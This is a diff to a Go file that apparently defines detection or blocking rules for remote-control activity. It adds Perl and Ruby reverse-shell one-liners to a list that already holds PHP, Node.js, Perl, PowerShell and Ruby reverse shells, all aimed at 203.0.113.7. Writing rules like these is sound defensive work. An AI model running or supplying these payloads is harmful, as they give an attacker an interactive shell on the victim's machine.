@@ -63,6 +63,8 @@ func remoteControl() []Rule {
 				{Text: "php -r '$s=fsockopen(\"203.0.113.7\",443);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"},
 				{Path: "a.js", Text: "const net=require('net'),sh=require('child_process').spawn('/bin/sh');\nconst c=new net.Socket();\nc.connect(4444,'203.0.113.7',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});"},
 				{Text: "perl -e 'use Socket;$i=\"203.0.113.7\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(443,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'"},
+				{Text: "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.7:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'"},
+				{Text: "ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.7\",\"4444\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'"},
 				{Text: "powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.7',443);$s=$c.GetStream();while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(iex $t 2>&1)}\""},
 				{Text: "ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.7\",443).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"},
 			},
